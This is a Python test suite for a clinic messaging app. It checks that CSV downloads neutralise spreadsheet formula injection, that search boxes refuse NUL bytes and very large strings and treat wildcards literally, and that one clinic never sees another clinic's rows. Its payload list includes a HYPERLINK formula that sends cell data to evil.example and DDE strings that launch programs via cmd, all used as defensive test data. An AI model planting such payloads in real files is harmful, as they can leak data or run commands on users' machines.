"""Issue 16, every hostile input refused: formula payloads in every CSV download, NUL bytes, huge
strings and LIKE wildcards in every search box, and hostile recipient files. Each refusal is a plain
``ValidationError``; nothing valid is lost; two clinics whose patients share names and numbers never
see each other's rows. Database paths run on SQLite and PostgreSQL (the ``engine`` fixture).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
import tracemalloc
import uuid
from dataclasses import dataclass, fields
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from sqlalchemy import Engine

from app.analytics import rollups
from app.analytics.chart_csv import to_csv as chart_csv
from app.analytics.store import Period
from app.csv_safe import E164_PHONE, FORMULA_STARTS, neutralise, read_csv, to_csv
from app.errors import ValidationError
from app.search_text import MAX_SEARCH_CHARS
from app.services import analytics, audit, message_export, patients, templates
from app.services.audit import AuditFilter
from app.services.bulk import recipients as ri
from app.services.bulk import wizard
from app.services.explorer import MessageFilter, list_messages
from app.services.permissions import Actor
from db.enums import Channel, Role
from db.session import tenant_session
from db.types import utcnow
from tests.delivery.conftest import RecordingQueue
from tests.factories import call, make_message, make_patient, make_tenant, make_user

PHONE = "+966501234567"  # both clinics' patient has this number (and the same names)

# Cells a spreadsheet would evaluate: each must come out of every download as text.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+99999*99999",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "+9665******67",  # a masked number is text, not a phone number
]
LONE_CR = "first\rsecond"  # a bare carriage return inside a cell
HUGE = "x" * 200_000
NUL = "Sara\x00Ali"


def assert_safe(data: bytes, *, numbers: tuple[str, ...] = ()) -> list[list[str]]:
    """No cell of ``data`` can start a formula, except a bare E.164 number or a value of a number column."""
    assert data.startswith("\ufeff".encode())
    rows = read_csv(data)
    header = rows[0]
    for row in rows[1:]:
        for name, cell in zip(header, row, strict=True):
            if cell.startswith(FORMULA_STARTS):
                number = name in numbers and _is_number(cell)
                assert E164_PHONE.match(cell) or number, f"{name}: {cell!r} would be evaluated"
    return rows


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def cells_of(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


# --- two clinics, the same patients -----------------------------------------------------------


@dataclass
class Twin:
    tenant_id: uuid.UUID
    admin: Actor
    analyst: Actor
    template_id: uuid.UUID
    message_ids: set[uuid.UUID]


@dataclass
class Twins:
    engine: Engine
    a: Twin
    b: Twin


def _twin(engine: Engine, slug: str) -> Twin:
    tenant = make_tenant(engine, slug)
    admin = make_user(engine, tenant, f"{slug}.admin", Role.ADMIN)
    analyst = make_user(engine, tenant, f"{slug}.analyst", Role.ANALYST)
    with tenant_session(engine, tenant) as session:
        template = templates.create_template(session, admin, code="reminder", name=PAYLOADS[0], channel=Channel.SMS,
                                             body_en="Hello {{ patient_name }}").id
    ids = set()
    now = utcnow()
    for number, payload in enumerate([*PAYLOADS, LONE_CR]):
        patient = make_patient(engine, tenant, name_en=payload, name_ar="سارة", phone=PHONE)
        ids.add(make_message(engine, tenant, recipient=PHONE, patient_id=patient, template_id=template,
                             body=payload, error_code=payload[:32], provider_message_id=payload,
                             price=Decimal("-0.05"), price_unit="USD", segments=1, status="failed",
                             created_at=now - dt.timedelta(minutes=number + 1)))
    return Twin(tenant, admin, analyst, template, ids)


@pytest.fixture
def twins(engine: Engine) -> Twins:
    return Twins(engine, _twin(engine, "clinic-a"), _twin(engine, "clinic-b"))


def _call(twins: Twins, actor: Actor, fn, *args, **kwargs):  # type: ignore[no-untyped-def]
    with tenant_session(twins.engine, actor.tenant_id) as session:
        return fn(session, actor, *args, **kwargs)


# --- 1. one CSV writer for every download -------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_rule_neutralises_every_payload_and_keeps_a_phone_number(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert neutralise(PHONE) == PHONE


def test_the_writer_quotes_a_lone_carriage_return_and_keeps_numbers_as_numbers() -> None:
    data = to_csv(["text", "int", "decimal", "float"], [[LONE_CR, -5, Decimal("-0.0079"), -1.5]])
    assert b'"first\rsecond"' in data
    assert read_csv(data)[1] == ["first\rsecond", "-5", "-0.0079", "-1.5"]


def test_the_message_export_writes_a_lone_cr_quoted_on_both_row_endings() -> None:
    out = io.StringIO()
    message_export.CsvWriter(out, line_end="\n").writerow([LONE_CR, "x"])
    assert out.getvalue() == '"first\rsecond",x\n'


@pytest.mark.parametrize("role", ["admin", "analyst"])
def test_message_export_neutralises_every_payload_and_shows_one_clinic(twins: Twins, role: str) -> None:
    actor = getattr(twins.a, role)
    out = io.BytesIO()
    _call(twins, actor, message_export.export_csv, MessageFilter(period="all"), list(message_export.EXPORT_COLUMNS),
          out)
    rows = assert_safe(out.getvalue(), numbers=("Price", "Segments"))
    header = rows[0]
    column = {name: [dict(zip(header, row, strict=True))[name] for row in rows[1:]] for name in header}
    assert {uuid.UUID(i) for i in column["Message id"]} == twins.a.message_ids  # not one of clinic B's
    assert sorted(column["Text"]) == sorted([neutralise(p) for p in PAYLOADS] + [LONE_CR])
    assert set(column["Price"]) == {"-0.05000"}  # a negative price stays a number
    assert set(column["Recipient"]) == ({PHONE} if role == "admin" else {"'+9665******67"})


def test_a_background_export_file_is_neutralised_too(twins: Twins, tmp_path: Path) -> None:
    info = call(twins.engine, twins.a.admin, message_export.request_export, MessageFilter(period="all"),
                ["recipient", "patient", "body", "price", "message_id"], queue=RecordingQueue())
    message_export.run_export(twins.engine, twins.a.tenant_id, info.id, directory=tmp_path)
    import gzip

    data = gzip.decompress(message_export.export_path(twins.a.tenant_id, info.id, tmp_path).read_bytes())
    rows = assert_safe(data, numbers=("Price",))
    assert {uuid.UUID(r[-1]) for r in rows[1:]} == twins.a.message_ids
    assert b'"first\rsecond"' in data


def test_the_audit_log_export_neutralises_details_and_ids(twins: Twins) -> None:
    with tenant_session(twins.engine, twins.a.tenant_id) as session:
        for payload in PAYLOADS:
            audit.record(session, twins.a.admin, payload[:64], object_type=payload[:40], object_id=payload[:64],
                         details={"note": payload})
    with tenant_session(twins.engine, twins.b.tenant_id) as session:
        audit.record(session, twins.b.admin, "clinic-b.only", details={"note": "B"})
    data = _call(twins, twins.a.admin, audit.export_csv)
    rows = assert_safe(data)
    assert not any("clinic-b.only" in cell for cell in cells_of(rows))
    assert {neutralise(p[:40]) for p in PAYLOADS} <= cells_of(rows)


def test_chart_csvs_neutralise_text_and_keep_negative_numbers(twins: Twins) -> None:
    rollups.rebuild(twins.engine)  # as the maintenance pass does: past hours are read from the rollups
    period = Period.last_days(7, now=utcnow() + dt.timedelta(minutes=1))
    report = _call(twins, twins.a.admin, analytics.report, period, now=utcnow())
    frames = [getattr(report, f.name) for f in fields(report) if isinstance(getattr(report, f.name), pd.DataFrame)]
    written = [assert_safe(chart_csv(frame), numbers=tuple(str(c) for c in frame.columns
                                                           if pd.api.types.is_numeric_dtype(frame[c])))
               for frame in frames if not frame.empty]
    assert any(neutralise(PAYLOADS[0]) in cells_of(rows) for rows in written), "the template name was exported"
    frame = pd.DataFrame({"Template": [*PAYLOADS, LONE_CR], "Cost": [-1.5] * (len(PAYLOADS) + 1)})
    rows = assert_safe(chart_csv(frame), numbers=("Cost",))
    assert [r[0] for r in rows[1:]] == [neutralise(p) for p in PAYLOADS] + [LONE_CR]
    assert {r[1] for r in rows[1:]} == {"-1.5"}


def test_the_bulk_skipped_list_neutralises_every_payload(twins: Twins) -> None:
    review = SimpleNamespace(skipped=[wizard.SkippedRecipient(row=n, recipient=p, reason="invalid", detail=p)
                                      for n, p in enumerate([*PAYLOADS, PHONE], start=2)])
    rows = assert_safe(_call(twins, twins.a.admin, wizard.skipped_csv, review), numbers=("row",))
    assert {neutralise(p) for p in PAYLOADS} | {PHONE} <= cells_of(rows)


# --- 2. search boxes ----------------------------------------------------------------------------


def _searches(twins: Twins, actor: Actor, text: str) -> list:  # type: ignore[type-arg]
    """Every search box of the app, as the pages call them."""
    return [
        lambda: _call(twins, actor, list_messages, MessageFilter(period="all", search=text)),
        lambda: MessageFilter.from_params({"period": "all", "q": text}),
        lambda: _call(twins, actor, patients.search_patients, text),
        lambda: _call(twins, actor, templates.list_templates, search=text),
        lambda: _call(twins, actor, audit.search, AuditFilter(object_id=text)),
        lambda: _call(twins, actor, audit.search, AuditFilter(object_type=text)),
        lambda: _call(twins, actor, audit.search, AuditFilter(actions=(text,))),
        lambda: MessageFilter.from_params({"period": "all", "error": text}),
    ]


@pytest.mark.parametrize("text, message", [
    (NUL, "NUL character"), ("\x00", "NUL character"), (HUGE, "200,000 characters long"),
    ("Sara\ud800", "not valid text"),
])
def test_a_nul_or_a_huge_search_is_a_plain_refusal(twins: Twins, text: str, message: str) -> None:
    for search in _searches(twins, twins.a.admin, text):
        with pytest.raises(ValidationError, match=message):
            search()


def test_a_search_at_the_limit_is_still_a_search(twins: Twins) -> None:
    text = "y" * MAX_SEARCH_CHARS
    assert _call(twins, twins.a.admin, patients.search_patients, text) == []
    assert _call(twins, twins.a.admin, list_messages, MessageFilter(period="all", search=text)).rows == []


@pytest.fixture
def wildcard_names(twins: Twins) -> Twins:
    """Patients (in both clinics, same names and numbers) whose names hold LIKE's special characters."""
    for twin in (twins.a, twins.b):
        for name in ("Ali_Hasan", "AliXHasan", "Ali%Hasan", "Ali Hasan Long", "Ali\\Hasan", "AliHasan"):
            patient = make_patient(twins.engine, twin.tenant_id, name_en=name, name_ar="علي", phone=PHONE)
            make_message(twins.engine, twin.tenant_id, patient_id=patient, body=f"for {name}")
        with tenant_session(twins.engine, twin.tenant_id) as session:
            for code, name in (("a_b", "a_b"), ("axb", "axb"), ("a-pct-b", "a%b"), ("a-bs-b", "a\\b")):
                templates.create_template(session, twin.admin, code=code, name=f"Name {name}",
                                          channel=Channel.SMS, body_en="Hello")
    return twins


@pytest.mark.parametrize("search, found", [
    ("Ali_Hasan", {"Ali_Hasan"}), ("Ali%Hasan", {"Ali%Hasan"}), ("Ali\\Hasan", {"Ali\\Hasan"}),
    ("i_h", {"Ali_Hasan"}), ("%H", {"Ali%Hasan"}), ("_H", {"Ali_Hasan"}), ("\\H", {"Ali\\Hasan"}),
])
def test_wildcards_in_a_search_are_literal(wildcard_names: Twins, search: str, found: set[str]) -> None:
    twins = wildcard_names
    names = {p.name_en for p in _call(twins, twins.a.admin, patients.search_patients, search)}
    assert names == found
    page = _call(twins, twins.a.admin, list_messages, MessageFilter(period="all", search=search))
    assert {r.patient_name for r in page.rows} == found
    b_patients = {p.id for p in _call(twins, twins.b.admin, patients.search_patients, search)}
    assert not b_patients & {p.id for p in _call(twins, twins.a.admin, patients.search_patients, search)}


@pytest.mark.parametrize("search, found", [("a_b", {"Name a_b"}), ("a%b", {"Name a%b"}), ("a\\b", {"Name a\\b"}),
                                           ("%", {"Name a%b"})])
def test_wildcards_in_a_template_search_are_literal(wildcard_names: Twins, search: str, found: set[str]) -> None:
    twins = wildcard_names
    listed = _call(twins, twins.a.admin, templates.list_templates, search=search)
    assert {t.name for t in listed} == found
    assert len({t.id for t in listed} & {t.id for t in _call(twins, twins.b.admin, templates.list_templates,
                                                             search=search)}) == 0


# --- 3. uploaded recipient files ----------------------------------------------------------------


def _load(data: bytes, filename: str = "list.csv") -> ri.ImportResult:
    table = ri.read_table(filename, data)
    return ri.to_recipients(table, ri.guess_mapping(table, Channel.SMS), Channel.SMS, "SA")


def _xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_nul_or_a_huge_cell_refuses_its_row_by_number_and_keeps_the_rest() -> None:
    data = ("phone,name\n0501234567,Sara\n0551234567,Sara\x00Ali\n0561234567," + HUGE + "\n"
            "0571234567,Omar\n0581234567," + "y" * 20_000 + "\n").encode()
    result = _load(data)
    assert [r["recipient"] for r in result.recipients] == ["+966501234567", "+966571234567"]
    assert [(r.row, r.reason) for r in result.rejected] == [
        (3, "column 2 contains a NUL character (\\0), which is not text"),
        (4, "a cell is longer than 10,000 characters"),
        (6, "column 2 is 20,000 characters long; at most 10,000 in a cell"),
    ]


def test_an_excel_file_with_a_huge_cell_refuses_that_row_only() -> None:
    result = _load(_xlsx([["Mobile", "Name"], [966501234567, "Sara"], [966551234567, HUGE], ["0561234567", "Omar"]]),
                   "list.xlsx")
    assert [r["recipient"] for r in result.recipients] == ["+966501234567", "+966561234567"]
    assert [(r.row, r.reason.endswith("characters long; at most 10,000 in a cell")) for r in result.rejected] == [
        (3, True)]  # (Excel keeps at most 32,767 characters of a cell)


def test_a_bad_header_names_the_row() -> None:
    with pytest.raises(ValidationError, match=r"Row 1 \(the header row\): column 1 contains a NUL"):
        ri.read_table("list.csv", b"pho\x00ne,name\n0501234567,Sara\n")


@pytest.mark.parametrize("filename, data, message", [
    ("list.csv", "phone\n0501234567\n".encode("utf-16"), "UTF-16"),
    ("list.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "not text"),
    ("list.csv", _xlsx([["phone"], ["0501234567"]]), "Excel workbook"),
    ("list.xlsx", b"phone\n0501234567\n", "could not be read as an Excel workbook"),
    ("list.xlsx", b"PK\x03\x04" + b"\x00" * 100, "could not be read as an Excel workbook"),
])
def test_a_file_that_is_not_text_or_not_a_workbook_is_refused_plainly(filename: str, data: bytes,
                                                                      message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        ri.read_table(filename, data)


def test_bytes_that_are_not_utf8_refuse_their_row_only() -> None:
    data = "phone,name\n0501234567,سارة\n".encode() + b"0551234567,\xff\xfe\n0561234567,Omar\n"
    result = _load(data)
    assert [r["row"] for r in result.recipients] == [2, 4]
    assert [(r.row, "not UTF-8" in r.reason) for r in result.rejected] == [(3, True)]


def test_five_million_rows_are_refused_from_the_first_rows_quickly_and_in_little_memory() -> None:
    data = b"phone,name\n" + b"0501234567,Patient\n" * 5_000_000  # 95 MB
    started = time.perf_counter()
    with pytest.raises(ValidationError, match="more than 100,000 rows; at most 100,000 per send"):
        ri.read_table("list.csv", data, max_bytes=len(data))
    assert time.perf_counter() - started < 2.0
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError):
            ri.read_table("list.csv", data, max_bytes=len(data))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 64 * 1024 * 1024, f"{peak / 1e6:.0f} MB"  # the 100,000 rows kept, not the file's 5,000,000


def test_an_excel_file_over_the_limit_stops_reading_at_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ri, "MAX_ROWS", 50)
    read: list[int] = []
    original = ri._cell_text
    monkeypatch.setattr(ri, "_cell_text", lambda v: read.append(1) or original(v))
    with pytest.raises(ValidationError, match="more than 50 rows"):
        ri.read_table("list.xlsx", _xlsx([["phone"]] + [[f"05{i:08d}"] for i in range(2_000)]))
    assert len(read) <= 52  # the header and 51 rows, not 2,000


def test_a_pasted_list_with_a_nul_or_a_huge_line_keeps_the_other_lines() -> None:
    table = ri.read_pasted("0501234567\n0551234567\x00\n" + HUGE + "\n0561234567\n")
    result = ri.to_recipients(table, ri.guess_mapping(table, Channel.SMS), Channel.SMS, "SA")
    assert [r["recipient"] for r in result.recipients] == ["+966501234567", "+966561234567"]
    assert [r.row for r in result.rejected] == [2, 3]


def test_the_refused_rows_of_an_upload_download_as_a_safe_csv() -> None:
    rows = [[r.row, r.recipient, r.reason] for r in _load(
        ("phone\n" + "\n".join(p.replace("\r", "") for p in PAYLOADS) + "\n").encode()).rejected]
    assert rows, "every payload is an invalid number"
    assert_safe(to_csv(["row", "recipient", "reason"], rows), numbers=("row",))


def test_csv_module_state_is_untouched() -> None:
    assert csv.field_size_limit() == 131072  # reading never raises the process-wide limit
